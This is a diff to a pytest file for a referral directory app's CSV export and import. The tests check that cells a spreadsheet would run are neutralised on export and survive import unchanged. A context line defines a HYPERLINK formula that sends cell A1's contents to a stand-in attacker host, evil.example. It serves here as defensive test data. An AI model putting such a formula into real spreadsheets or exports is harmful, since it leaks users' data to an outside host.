@@ -169,6 +169,7 @@ def test_csv_export_then_import_changes_nothing(app, runner, session, directory,
 
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+FORMULA_NAME = '=SUM(A1:A9)&" Eve"'
 
 
 @pytest.fixture
@@ -206,6 +207,9 @@ def test_csv_export_neutralises_cells_a_spreadsheet_would_run(runner, session, f
 
 
 def test_neutralised_csv_imports_back_as_typed(app, runner, session, formulas, tmp_path):
+    # the importer refuses a name holding a web address, so this one's formula has none
+    formulas.name = FORMULA_NAME
+    session.commit()
     out = tmp_path / "directory.csv"
     result = runner.invoke(args=["referral", "export", "--format", "csv", "--output", str(out)])
     assert result.exit_code == 0, result.output
@@ -218,7 +222,7 @@ def test_neutralised_csv_imports_back_as_typed(app, runner, session, formulas, t
     report = import_csv(session, out.read_bytes(), app.config)
     assert (report.created, report.errors) == (2, [])
     eve = session.scalars(select(Practitioner).where(Practitioner.external_id == "m-eve")).one()
-    assert (eve.name, eve.phone) == (HYPERLINK, "+61 2 9123 4567")
+    assert (eve.name, eve.phone) == (FORMULA_NAME, "+61 2 9123 4567")
     place = eve.locations[0]
     assert (place.suburb, place.street, place.state, place.lat, place.lon) == (
         "-2+3",
